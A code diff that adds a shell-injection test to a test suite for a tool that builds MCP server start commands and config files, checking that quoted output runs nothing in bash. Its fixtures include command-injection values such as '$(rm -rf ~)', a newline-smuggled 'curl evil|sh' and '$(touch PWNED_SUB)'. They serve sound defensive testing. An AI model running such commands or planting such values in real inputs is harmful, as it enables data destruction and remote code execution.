@@ -9,7 +9,8 @@
  */
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: VS Code's `${input:ID}` and mcp-remote's `${NAME}` are the data under test
 import { describe, expect, test } from "bun:test";
-import { readFileSync } from "node:fs";
+import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
 import { join } from "node:path";
 import {
 	claudeCodeArgv,
@@ -723,6 +724,62 @@ describe("every registry type, runtime hints and variables", () => {
 		expect(JSON.parse(vscodeFile("tool", o) as string).servers.tool.args).toContain(
 			"$(rm -rf ~) `id` it's; | > /etc/x",
 		);
+	});
+
+	test("pasted into bash, hostile names and values run nothing: env names that are no shell names, control characters", () => {
+		const dir = mkdtempSync(join(tmpdir(), "ui-shell-"));
+		try {
+			// A stand-in for npx that prints its arguments and the environment it was given.
+			// (The environment as exec gave it: a shell drops names it could not hold, a program keeps them.)
+			writeFileSync(
+				join(dir, "npx"),
+				'#!/bin/sh\nprintf "arg:%s\\n" "$@"\ntr "\\0" "\\n" < /proc/$$/environ\n',
+				{
+					mode: 0o755,
+				},
+			);
+			const o = only(
+				doc({
+					packages: [
+						{
+							registryType: "npm",
+							identifier: "tool",
+							version: "1.0.0",
+							transport: { type: "streamable-http", url: "http://localhost:8080/mcp" },
+							packageArguments: [{ type: "positional", value: "a\u0015\u0003\ntouch PWNED_CTRL\n" }],
+							environmentVariables: [
+								{ name: "X;touch${IFS}PWNED_ENV;Y", value: "v" },
+								{ name: "A$(touch PWNED_SUB)", value: "w" },
+							],
+						},
+					],
+				}),
+			);
+			const command = startCommand(o) as string;
+			// Nothing a terminal would act on is left in the text.
+			expect([...command].filter((c) => c.charCodeAt(0) < 32 || c.charCodeAt(0) === 127)).toEqual([]);
+			const run = Bun.spawnSync(["bash", "-c", command], {
+				cwd: dir,
+				env: { PATH: `${dir}:/usr/bin:/bin` },
+			});
+			const out = run.stdout.toString();
+			expect(run.exitCode).toBe(0);
+			expect(readdirSync(dir).sort()).toEqual(["npx"]);
+			expect(out).toContain("arg:a\u0015\u0003");
+			expect(out).toContain("X;touch${IFS}PWNED_ENV;Y=v");
+			expect(out).toContain("A$(touch PWNED_SUB)=w");
+			for (const word of [
+				"a\u0015\u0003\ncurl evil|sh\n",
+				"tab\there",
+				"esc\u001b[2J",
+				"back\\slash'quote",
+			]) {
+				const echoed = Bun.spawnSync(["bash", "-c", `printf %s ${shellQuote(word)}`]).stdout.toString();
+				expect(echoed).toBe(word);
+			}
+		} finally {
+			rmSync(dir, { recursive: true, force: true });
+		}
 	});
 
 	test("server keys: the name's last part, as every client accepts it", () => {
